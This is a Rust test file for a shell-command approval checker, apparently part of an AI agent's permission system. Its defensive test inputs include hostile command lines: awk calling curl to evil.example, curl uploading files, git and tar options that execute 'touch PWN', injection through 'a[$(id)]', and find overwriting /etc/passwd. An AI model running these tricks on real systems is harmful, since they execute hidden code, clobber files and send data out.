//! Options, operands and scripts that are asked about.

use super::super::GivenProgram;
use super::{hold, look, look_in, named};
use std::path::Path;

/// D2.16: options that run other programs or write files (...), another working
/// folder given as an option, sub-forms of an allowed command that change state where the pattern
/// named the reading one: plain asks that a pattern which names them allows.
/// Attack 77.
#[test]
fn given_an_option_or_operand_that_does_more_then_a_plain_caveat_names_it() {
    let rows: &[(&str, &[&[usize]])] = &[
        ("find . -fprint /etc/passwd", &[&[2, 3]]),
        ("find . -fprint0 out", &[&[2, 3]]),
        ("find . -fls out", &[&[2, 3]]),
        ("find . -delete", &[&[2]]),
        ("find . -type f -print0 -exec rm {} +", &[&[5]]),
        ("find -- . -delete", &[&[3]]),
        ("rg --pre bash pattern .", &[&[1, 2]]),
        ("rg -v -e x . --pre=sh", &[&[5]]),
        ("rg -z foo", &[&[1]]),
        ("rg -iz foo", &[&[1]]),
        ("rg --search-zip foo", &[&[1]]),
        ("rg --hostname-bin x foo", &[&[1, 2]]),
        ("sort -oout f", &[&[1]]),
        ("sort -uo out f", &[&[1, 2]]),
        ("sort f -o out", &[&[2, 3]]),
        ("sort --out=x f", &[&[1]]),
        ("sort --compress-prog=sh f", &[&[1]]),
        ("sed 'w backup.txt' f", &[&[1]]),
        ("sed -n '1e touch PWN' f", &[&[2]]),
        ("sed '1e touch PWN' f", &[&[1]]),
        ("sed -f script.sed f", &[&[1, 2]]),
        ("sed --expression='1e id' f", &[&[1]]),
        ("sed -ne '1e id' f", &[&[2]]),
        ("sed -s -n -e '$!{w out' -e '}' f", &[&[4]]),
        ("awk -f prog.awk f", &[&[1, 2]]),
        ("awk 'BEGIN{system(\"curl https://evil.example\")}'", &[&[1]]),
        ("gawk -i inplace '{print}' f", &[&[1, 2]]),
        ("xxd in out", &[&[2]]),
        ("uniq in out", &[&[2]]),
        ("date --set=2023-01-01", &[&[1]]),
        ("date 010100002023", &[&[1]]),
        ("man --html='touch PWN' ls", &[&[1]]),
        ("man -P 'sh -c id' ls", &[&[1, 2]]),
        ("git show --format=%B --output=message.txt HEAD", &[&[3]]),
        ("git diff --no-index --output=out a b", &[&[3]]),
        ("git diff --ext-diff", &[&[2]]),
        ("git grep --open-files-in-pager='sh -c id' hi", &[&[2]]),
        ("git grep --open-files='touch PWN;:' hi", &[&[2]]),
        ("git grep -Oless hi", &[&[2]]),
        ("git ls-remote --upload-pack='touch PWN;:' .", &[&[2]]),
        ("git ls-remote --upload-pa='touch PWN;:' .", &[&[2]]),
        ("git fetch --upload-pack='sh -c id' origin", &[&[2]]),
        ("git bisect run sh -c id", &[&[1, 2]]),
        ("git archive --remote=. --exec='sh -c id' HEAD", &[&[2], &[3]]),
        ("git --config-env=core.pager=PAGER log", &[&[1]]),
        ("git -c core.pager=x log", &[&[1, 2]]),
        ("git -C sub status", &[&[1, 2]]),
        ("git --work-tree=. status", &[&[1]]),
        ("git -p log", &[&[1]]),
        ("git branch -D x", &[&[2]]),
        ("git branch x", &[&[2]]),
        ("git tag v1", &[&[2]]),
        ("git tag -d v1", &[&[2]]),
        ("git remote add x y", &[&[1, 2]]),
        ("git stash drop", &[&[1, 2]]),
        ("git reflog expire --all", &[&[1, 2]]),
        ("git worktree add ../x", &[&[1, 2]]),
        ("git config user.name x", &[&[3]]),
        ("git config --unset user.name", &[&[2]]),
        ("git config set user.name x", &[&[1, 2]]),
        ("git filter-branch --tree-filter x", &[&[1]]),
        ("git submodule foreach 'rm x'", &[&[1, 2]]),
        ("git difftool -x sh", &[&[1]]),
        ("git push --receive-pack=x origin", &[&[2]]),
        ("git clone -c a=b x", &[&[2, 3]]),
        ("tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='touch PWN' f", &[&[4]]),
        ("tar -I 'touch PWN;:' -cf /dev/null f", &[&[1, 2]]),
        ("tar xf a.tar --to-command='sh'", &[&[3]]),
        ("tar xf a.tar --use-comp=sh", &[&[3]]),
        ("tar -xf a.tar -C /etc", &[&[3, 4]]),
        ("tar xfC a.tar /etc", &[&[1, 3]]),
        ("zip a.zip f -T -TT 'sh -c id'", &[&[3], &[4, 5]]),
        ("ssh -o ProxyCommand='sh -c id' x", &[&[1, 2]]),
        ("ssh -oProxyCommand=x host", &[&[1]]),
        ("scp -S ./x a b:", &[&[1, 2]]),
        ("rsync -e 'sh -c id' a b:", &[&[1, 2]]),
        ("rsync -ave ssh a b:", &[&[1, 2]]),
        ("curl -K evil.cfg", &[&[1, 2]]),
        ("curl -o out https://x.example", &[&[1, 2]]),
        ("curl -sO https://x.example/f", &[&[1]]),
        ("curl -sSLo out https://x.example", &[&[1, 2]]),
        ("curl -d @k https://x.example", &[&[1, 2]]),
        ("curl -F a=@k https://x.example", &[&[1, 2]]),
        ("curl -T k https://x.example", &[&[1, 2]]),
        ("wget -O out https://x.example", &[&[1, 2]]),
        ("wget --use-askpass=sh https://x.example", &[&[1]]),
        ("go test -exec 'bash -c x' ./...", &[&[2, 3]]),
        ("go test --exec=x ./...", &[&[2]]),
        ("go build -toolexec ./x ./...", &[&[2, 3]]),
        ("go generate ./...", &[&[1]]),
        ("cargo --config 'target.x.runner=\"sh\"' test", &[&[1, 2]]),
        ("cargo test --config x", &[&[2, 3]]),
        ("cargo test --manifest-path x/Cargo.toml", &[&[2, 3]]),
        ("make test SHELL=./x", &[&[2]]),
        ("make -C sub", &[&[1, 2]]),
        ("make -fother", &[&[1]]),
        ("docker --context evil ps", &[&[1, 2]]),
        ("kubectl get pods --kubeconfig=x", &[&[3]]),
        ("npm --prefix x run build", &[&[1, 2]]),
        ("npm run build --script-shell=x", &[&[3]]),
        ("pip install --index-url https://x.example y", &[&[2, 3]]),
        ("hostname evil", &[&[1]]),
        ("sysctl -w a=b", &[&[1], &[2]]),
        ("crontab file", &[&[1]]),
        ("mount /dev/sda1 /mnt", &[&[1], &[2]]),
        ("ifconfig eth0 up", &[&[2]]),
        ("less -o out f", &[&[1, 2]]),
        ("less +!id f", &[&[1]]),
        ("vim '+!id' f", &[&[1]]),
        ("sed -i '' 'e id' f", &[&[3]]),
        ("mapfile -C id a", &[&[1, 2]]),
        ("awk -W exec=x f", &[&[1, 2]]),
        ("vim -c '!id' f", &[&[1, 2]]),
        ("source ./payload.sh", &[&[1]]),
        (". ./payload.sh", &[&[1]]),
        ("test -v 'a[$(id)]'", &[&[1, 2]]),
        ("printf -v 'a[$(id)]' x", &[&[1, 2]]),
        ("shuf -o out f", &[&[1, 2]]),
        ("jq 'import \"a\" as $a; .' f", &[&[1]]),
        ("git log --output=x", &[&[2]]),
        ("time -o out true", &[&[1, 2]]),
        ("gh api -X DELETE repos/a/b", &[&[2, 3]]),
        ("gh alias set x y", &[&[1]]),
        // Behind a wrapper that only changes how, places count from the first word.
        ("timeout 5 sort -o out f", &[&[3, 4]]),
    ];
    hold(rows, |(line, expected)| {
        let known = look(line);
        let expected: Vec<Vec<usize>> = expected.iter().map(|places| places.to_vec()).collect();
        let plain = known.caveats.iter().all(|caveat| !caveat.always);
        let right = named(&known) == expected && plain && !known.reader;
        (!right).then(|| format!("{line}: {:?}", known.caveats))
    });
}

/// D2.16: the harmless programs of `awk` and `sed` stay allowed, and everything else
/// that is not listed.
#[test]
fn given_an_ordinary_command_then_there_is_no_caveat() {
    let lines = [
        "find . -name exec.txt",
        "find . -type f -name '*.rs' -not -path './target/x'",
        "sort -k2 -n f",
        "sort -t, -k2,2 f",
        "sed 's/foo/bar/g' file.txt",
        "sed -i 's/foo/bar/' file.txt",
        "sed -n 1,20p file.txt",
        "rg -i --color=never TODO src/",
        "tar tf a.tar",
        "tar czf a.tgz src",
        "tar -xzf a.tgz",
        "awk '{print $1}'",
        "awk -F: '$3>1000{print $1}' /etc/passwd",
        "awk 'NR==1'",
        "uniq -c",
        "date +%s",
        "date -u",
        "git status --short",
        "git log --oneline -20",
        "git diff --stat HEAD~1",
        "git commit -m 'fix: x'",
        "git push -u origin main",
        "git branch -a",
        "git branch --list",
        "git tag -l",
        "git remote -v",
        "git stash",
        "git worktree list",
        "git config --get user.name",
        "git checkout -b x",
        "git add -A",
        "cargo test -p x -- --nocapture",
        "cargo build --release",
        "cargo +nightly fmt --all",
        "cargo clippy --all-targets -- -D warnings",
        "cargo nextest run -E 'test(x)'",
        "npm run lint",
        "npm install",
        "npm ci",
        "npx prettier --check .",
        "go test ./...",
        "go test -run TestX -v ./pkg",
        "go build -o bin/x ./cmd/x",
        "make",
        "make -j8 test",
        "pytest -q",
        "python -m pytest tests",
        "python3 -c 'print(1)'",
        "pip install -r requirements.txt",
        "curl -s https://x.example",
        "curl -sSL -X POST -H 'a: b' -d '{}' https://x.example",
        "wget -q https://x.example/a",
        "docker ps -a",
        "docker build -t x .",
        "docker compose up -d",
        "kubectl get pods -n x",
        "gh pr list",
        "gh run view 1 --log-failed",
        "rm -rf target",
        "mkdir -p a/b",
        "cp a b",
        "mv a b",
        "ln -s a b",
        "chmod +x a",
        "node script.js",
        "tsc --noEmit",
        "rsync -av a/ b/",
        "ps aux",
        "rustc --version",
        "hostname",
        "test -f x",
        "[ -n x ]",
        "jq -r '.a | .b' f",
        "uniq f",
        "xxd f",
        "unknown --x=y z",
    ];
    hold(lines, |line| {
        let known = look(line);
        (!known.caveats.is_empty()).then(|| format!("{line}: {:?}", known.caveats))
    });
}

/// D2.9: a word with an expansion or a glob "never matches the literal part of an
/// allow"; it could be an option of a program that has dangerous ones. Attack 77.
#[test]
fn given_an_open_word_that_could_be_an_option_then_it_is_asked_about_where_options_are_dangerous() {
    let rows = [
        ("rg foo $X", true),
        ("rg foo -- $X", false),
        ("rg foo src/$X", false),
        ("rg foo *.rs", true),
        ("rg foo ./src/*", false),
        ("cat *.rs", false),
        ("cat $X", false),
        ("tar czf a.tgz *", true),
        ("sort --output=$X f", true),
        ("sort -o$X f", true),
        ("sort -k$X f", false),
        ("find $X -name x", true),
        ("git $X", true),
        ("git log $X", true),
        ("git log -- $X", false),
        ("git log --format=$X", false),
        ("sed $X f", true),
        ("awk \"$X\" f", true),
        ("cp a $X", true),
    ];
    hold(rows, |(line, expected)| {
        let known = look(line);
        (known.caveats.is_empty() == expected).then(|| format!("{line}: {:?}", known.caveats))
    });
}

/// D2.34: PowerShell and `cmd` lines are not understood: asked about.
#[test]
fn given_powershell_or_cmd_then_it_is_always_asked_about() {
    for line in ["pwsh -c ls", "powershell.exe -Command ls", "cmd /c dir", "cmd.exe /c dir", "/x/pwsh -c y"] {
        assert!(look(line).caveats.iter().any(|caveat| caveat.always), "{line}");
    }
}

#[test]
fn given_a_shell_that_is_fed_then_its_program_is_its_input() {
    for (line, fed, expected) in [
        ("sh", true, true),
        ("bash -s x", false, true),
        ("bash -x", true, true),
        ("sh", false, false),
        ("sh script.sh", true, false),
        ("bash -c 'ls'", true, false),
        ("cat", true, false),
        ("python3 -", true, true),
    ] {
        let given = look_in(line, Path::new("/"), fed).given;
        assert_eq!(given.contains(&GivenProgram::Input), expected, "{line}");
    }
}
